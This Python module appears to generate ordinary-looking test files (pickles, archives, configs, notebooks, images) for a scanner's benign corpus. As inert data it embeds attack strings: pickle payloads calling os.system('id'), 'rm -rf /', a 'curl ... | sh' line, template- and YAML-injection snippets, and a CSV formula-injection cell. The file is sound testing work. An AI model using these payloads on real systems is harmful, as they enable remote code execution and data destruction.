"""Ordinary files that the standard library and people write: pickles of values, archives, texts, tables, pictures."""

from __future__ import annotations

import argparse
import bz2
import collections
import csv
import datetime
import decimal
import fractions
import gzip
import io
import ipaddress
import json
import lzma
import pathlib
import pickle
import random
import tarfile
import uuid
import zipfile
import zlib
from typing import TYPE_CHECKING

from corpus.malicious.rest import PNG
from corpus.sample import Sample, file

if TYPE_CHECKING:
    from collections.abc import Iterator


def values() -> dict[str, object]:
    """Return values of every kind that pickle writes by itself."""
    shared = [1, 2]
    cycle: list[object] = [1]
    cycle.append(cycle)
    return {
        "none": None, "booleans": [True, False], "integers": [0, 1, 255, 256, -1, 1 << 31, -(1 << 63), 1 << 200], "floats": [0.0, 1.5, float("inf"), float("-inf")],
        "complex": 1 + 2j, "text": ["", "a", "ü€😀", "x" * 70_000, "a\nb\\c"], "bytes": [b"", b"abc", bytes(70_000)], "bytearray": bytearray(b"abc"),
        "tuples": ((), (1,), (1, 2), (1, 2, 3), (1, 2, 3, 4)), "nested": {"a": [{"b": (1, {"c": {1, 2}})}]}, "sets": [{1, 2}, frozenset({3}), set()],
        "shared": [shared, shared, {"a": shared}], "cycle": cycle, "long-list": list(range(5000)), "long-dict": {str(i): i for i in range(3000)},
        "dates": [datetime.date(2026, 1, 2), datetime.datetime(2026, 1, 2, 3, 4, 5, 6), datetime.time(1, 2), datetime.timedelta(1, 2, 3), datetime.UTC, datetime.datetime(2026, 1, 2, tzinfo=datetime.UTC), datetime.timezone(datetime.timedelta(hours=1))],
        "numbers": [decimal.Decimal("1.5"), fractions.Fraction(1, 3)], "collections": [collections.OrderedDict(a=1), collections.Counter("aab"), collections.deque([1, 2], maxlen=3), collections.defaultdict(list, a=[1]), collections.defaultdict(int), collections.ChainMap({"a": 1})],
        "identifiers": [uuid.UUID(int=5), ipaddress.ip_address("10.0.0.1"), ipaddress.ip_network("10.0.0.0/8"), ipaddress.ip_address("::1")],
        "paths": [pathlib.PurePosixPath("/a/b"), pathlib.PosixPath("x")], "namespace": argparse.Namespace(lr=0.1, layers=[1, 2], name="x"), "range": [range(5), slice(1, 2, 3)],
        "ellipsis": [Ellipsis, NotImplemented], "types": [int, str, dict, collections.OrderedDict], "random": random.Random(1), "exceptions": [ValueError("x"), KeyError("y")],
        "text-about-attacks": {"doc": "os.system('rm -rf /') and eval(input()) and __import__('os')", "cmd": "import subprocess; subprocess.Popen('sh')", "p": "cos\nsystem\n(S'id'\ntR."},
        "bytes-about-attacks": {"doc": b"cposix\nsystem\n(S'id'\ntR.", "b64": "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="},
        "hyperparameters": {"model": "resnet", "lr": 1e-3, "exec": True, "eval": "accuracy", "system": "linux", "__import__": "no"},
        "vocabulary": {word: place for place, word in enumerate(["os", "system", "eval", "exec", "subprocess", "Popen", "builtins", "import", "socket"] * 3)},
        "regular-expression": __import__("re").compile(r"(a|b)+\d", __import__("re").IGNORECASE), "enumeration": [__import__("http").HTTPStatus.OK, __import__("signal").Signals.SIGTERM],
        "array": __import__("array").array("d", [1.0, 2.0]), "zone": __import__("zoneinfo").ZoneInfo("Europe/Berlin"), "string-io": io.StringIO("abc"), "bytes-io": io.BytesIO(b"abc"),
        "partial-of-int": __import__("functools").partial(int, base=2), "operator": [__import__("operator").itemgetter(1), __import__("operator").attrgetter("a")], "simple-namespace": __import__("types").SimpleNamespace(a=1),
    }  # fmt: skip


QUESTIONABLE = {"partial-of-int", "operator", "types"}  # pickles of functions: an opinion, so they are no bar


def samples() -> Iterator[Sample]:
    """Yield pickles, then archives, then texts."""
    for name, value in values().items():
        if name in QUESTIONABLE:
            continue
        for protocol in range(6):
            if protocol in (len(name) % 3, 1) or (protocol < 2 and name.endswith("-io")):
                continue
            yield file("stdlib-pickle", f"{name}-{protocol}", "data.pkl", pickle.dumps(value, protocol))
    yield file("stdlib-pickle", "python-pickler", "data.pkl", _python_pickle())
    yield file("stdlib-pickle", "several-streams", "log.pkl", b"".join(pickle.dumps({"step": i}) for i in range(50)))
    yield from _packed()
    yield from _texts()
    yield from _pictures()


def _python_pickle() -> bytes:
    out = io.BytesIO()
    pickle._Pickler(out, 4).dump({"a": [1, 2.5, "x"], "b": datetime.date(2026, 1, 1)})  # type: ignore[attr-defined]
    return out.getvalue()


def _packed() -> Iterator[Sample]:
    plain = pickle.dumps({"weights": list(range(1000)), "when": datetime.date(2026, 1, 1)})
    for suffix, data in {
        "gz": gzip.compress(plain, mtime=0),
        "bz2": bz2.compress(plain),
        "xz": lzma.compress(plain),
        "z": zlib.compress(plain),
        "lzma": lzma.compress(plain, format=lzma.FORMAT_ALONE),
    }.items():
        yield file("compressed", f"pickle-{suffix}", f"data.pkl.{suffix}", data)
        yield file(
            "compressed",
            f"csv-{suffix}",
            f"data.csv.{suffix}",
            {
                "gz": lambda d: gzip.compress(d, mtime=0),
                "bz2": bz2.compress,
                "xz": lzma.compress,
                "z": zlib.compress,
                "lzma": lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE),
            }[suffix](b"a,b\n1,2\n" * 500),
        )
    for suffix, mode in {"tar": "w", "tar.gz": "w:gz", "tar.bz2": "w:bz2", "tar.xz": "w:xz"}.items():
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode=mode) as archive:  # type: ignore[call-overload]
            for name, data in {
                "model/": None,
                "model/README.md": b"# hi\n",
                "model/data.pkl": plain,
                "model/config.json": b"{}",
                "model/run.sh": b"#!/bin/sh\necho\n",
            }.items():
                info = tarfile.TarInfo(name)
                if data is None:
                    info.type = tarfile.DIRTYPE
                else:
                    info.size = len(data)
                archive.addfile(info, io.BytesIO(data) if data else None)
            link = tarfile.TarInfo("model/latest.pkl")
            link.type, link.linkname = tarfile.SYMTYPE, "data.pkl"
            archive.addfile(link)
        yield file("archive", suffix, f"model.{suffix}", out.getvalue())
    for name, method in {"stored": 0, "deflated": 8, "bzip2": 12, "lzma": 14}.items():
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", method) as archive:
            archive.comment = b"made today"
            archive.writestr("README.md", b"# hi\n" * 50)
            archive.writestr("data.pkl", plain)
            archive.writestr("folder/", b"")
            archive.writestr("folder/x.csv", b"a,b\n")
        yield file("archive", f"zip-{name}", "data.zip", out.getvalue())
    inner = out.getvalue()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("inner.zip", inner)
        archive.writestr("more.tar.gz", gzip.compress(b"", mtime=0))
    yield file("archive", "zip-in-zip", "data.zip", out.getvalue())
    wheel = io.BytesIO()
    with zipfile.ZipFile(wheel, "w", 8) as archive:
        archive.writestr("pkg/__init__.py", "import os\nVERSION = '1'\n")
        archive.writestr("pkg/run.py", "import subprocess\n\ndef main():\n    subprocess.run(['ls'])\n")
        archive.writestr("pkg-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n")
        archive.writestr("pkg-1.0.dist-info/RECORD", "")
        archive.writestr("pkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\n")
    yield file("archive", "wheel", "pkg-1.0-py3-none-any.whl", wheel.getvalue())


CARD = """# Fraud model

Do **not** load pickles: `pickle.load(open('x'))` runs `os.system('id')` and `eval(...)`; see CVE-2025-1716, `__import__('os')`.

```python
import os, subprocess
os.system("curl http://example.com/x | sh")
model = torch.load("model.pt", weights_only=False)
```

{{ cycler.__init__.__globals__.os }} and `!!python/object/apply:os.system` are examples of attacks.
"""
TEXTS: dict[str, str] = {
    "README.md": CARD, "notes.txt": "os.system('rm -rf /')\nexec(open('x').read())\n", "train.py": "import os\nos.system('nvidia-smi')\nexec('x = 1')\n",
    "paper.tex": "\\input{a}\n\\write18{ls}\n", "LICENSE": "Apache License\n" * 20, "run.sh": "#!/bin/sh\npython train.py\n", "Dockerfile": "FROM python:3.11\nRUN pip install torch\n",
    "requirements.txt": "numpy==2.4.6\ntorch>=2.0\nscikit-learn[alldeps]~=1.5 ; python_version >= '3.9'\n# a comment\n-r dev.txt\n", "environment.yml": "name: ml\nchannels:\n  - conda-forge\n  - defaults\ndependencies:\n  - python=3.11\n  - numpy\n  - pip:\n      - torch==2.0\n",
    "pyproject.toml": "[project]\nname = 'x'\nversion = '1'\n", "config.yaml": "model:\n  name: resnet\n  layers: [1, 2, 3]\noptimizer: &o\n  lr: 0.1\nother: *o\n", "params.yml": "train:\n  epochs: 3\n  eval: true\n  exec: none\n",
    "hydra.yaml": "model:\n  _target_: torch.nn.Linear\n  in_features: 3\n  out_features: 2\noptimizer:\n  _target_: torch.optim.Adam\n  lr: 0.001\n", "labels.txt": "cat\ndog\ncar\n", "vocab.txt": "[PAD]\n[UNK]\n##ing\nos\nsystem\neval\n",
    "merges.txt": "#version: 0.2\nĠ t\nĠ a\n", "metrics.csv": "epoch,loss\n1,0.5\n2,0.25\n", "data.tsv": "a\tb\n1\t2\n", "events.jsonl": '{"a": 1}\n{"a": 2}\n', "empty.txt": "", "page.html": "<html><script>var a = 1;</script><body>x</body></html>\n",
    "config.json": '{"lr": 0.1, "cmd": "python -c \\"import os; os.system(\'ls\')\\""}', "list.json": "[1, 2, 3]", "poetry.lock": "[[package]]\nname = 'numpy'\n", "setup.cfg": "[metadata]\nname = x\n", ".gitattributes": "*.bin filter=lfs diff=lfs merge=lfs -text\n",
    "pointer.bin": "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n", "model.dot": "digraph { a -> b }\n", "iris.arff": "@relation iris\n@attribute a numeric\n@data\n1\n", "svm.txt": "1 1:0.5 2:0.25\n-1 1:0.1\n",
    "glove.txt": "the 0.1 0.2 0.3\nof 0.2 0.1 0.0\n", "dvc.yaml": "stages:\n  train:\n    cmd: python train.py\n    deps:\n      - data.csv\n", "model.pkl.dvc": "outs:\n- md5: a304afb96060aad90176268345e10355\n  size: 37891850\n  path: model.pkl\n", "MLproject": "name: x\nconda_env: conda.yaml\nentry_points:\n  main:\n    parameters:\n      lr: float\n    command: 'python train.py --lr {lr}'\n",
}  # fmt: skip


def _texts() -> Iterator[Sample]:
    yield from _plain_texts()
    yield from _notebooks()


def _plain_texts() -> Iterator[Sample]:
    for name, text in TEXTS.items():
        yield file("text", name.replace(".", "-").strip("-"), name, text.encode())
    yield file("text", "utf-16", "notes.txt", "a text of another time".encode("utf-16"))
    yield file("text", "latin-1", "notes.txt", "Größe und Länge einer Schätzung".encode("latin-1"))
    yield file("text", "bom", "config.json", b"\xef\xbb\xbf" + b'{"a": 1}')
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerows([[i, "=cmd|' /C calc'!A0", "os.system"] for i in range(200)])
    yield file("text", "csv-with-formulas", "data.csv", out.getvalue().encode())
    yield file("text", "large-json", "vocab.json", json.dumps({f"tok{i}": i for i in range(20000)}).encode())


def _notebooks() -> Iterator[Sample]:
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": ["# Title\n", "text with `os.system`"]},
        {
            "cell_type": "code",
            "execution_count": 1,
            "id": "b",
            "metadata": {},
            "outputs": [
                {"output_type": "stream", "name": "stdout", "text": ["1\n"]},
                {
                    "output_type": "display_data",
                    "metadata": {},
                    "data": {"text/plain": ["<Figure>"], "image/png": "iVBORw0KGgo="},
                },
                {
                    "output_type": "execute_result",
                    "execution_count": 1,
                    "metadata": {},
                    "data": {
                        "text/html": [
                            '<div><style scoped>.a { b: c }</style><table border="1"><tr><td>1</td></tr></table></div>'
                        ],
                        "text/plain": ["   a\n"],
                    },
                },
            ],
            "source": [
                "import numpy as np\n",
                "import os\n",
                "path = os.path.join('a', 'b')\n",
                "print(np.eye(2))\n",
                "%matplotlib inline\n",
                "%timeit 1 + 1\n",
            ],
        },
    ]
    for minor in (4, 5):
        yield file(
            "notebook",
            f"ordinary-{minor}",
            "train.ipynb",
            json.dumps(
                {
                    "cells": cells,
                    "metadata": {
                        "kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"},
                        "language_info": {"name": "python"},
                    },
                    "nbformat": 4,
                    "nbformat_minor": minor,
                },
                indent=1,
            ).encode(),
        )
    yield file(
        "notebook",
        "pip-install",
        "setup.ipynb",
        json.dumps(
            {
                "cells": [
                    {
                        "cell_type": "code",
                        "execution_count": None,
                        "id": "c",
                        "metadata": {},
                        "outputs": [],
                        "source": ["%pip install numpy\n", "!pip install -q torch\n", "!ls\n", "!nvidia-smi\n"],
                    }
                ],
                "metadata": {},
                "nbformat": 4,
                "nbformat_minor": 5,
            }
        ).encode(),
    )
    yield file(
        "notebook",
        "empty",
        "new.ipynb",
        json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode(),
    )


def _pictures() -> Iterator[Sample]:
    yield file("media", "png", "plot.png", PNG)
    wav = (
        b"RIFF"
        + (36 + 16).to_bytes(4, "little")
        + b"WAVEfmt "
        + (16).to_bytes(4, "little")
        + b"\1\0\1\0\x40\x1f\0\0\x40\x1f\0\0\1\0\x08\0data"
        + (16).to_bytes(4, "little")
        + bytes(16)
    )
    yield file("media", "wav", "a.wav", wav)
    yield file(
        "media",
        "pdf",
        "paper.pdf",
        b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\nxref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000058 00000 n \ntrailer\n<< /Size 3 /Root 1 0 R >>\nstartxref\n110\n%%EOF\n",
    )
    try:
        from PIL import Image  # noqa: PLC0415
    except ImportError:
        return
    image = Image.effect_mandelbrot((64, 64), (-2, -1.5, 1, 1.5), 30)
    for kind in ("PNG", "JPEG", "GIF", "BMP", "TIFF", "WEBP"):
        out = io.BytesIO()
        image.convert("RGB").save(out, kind)
        yield file("media", f"pillow-{kind.lower()}", f"plot.{kind.lower()}", out.getvalue())
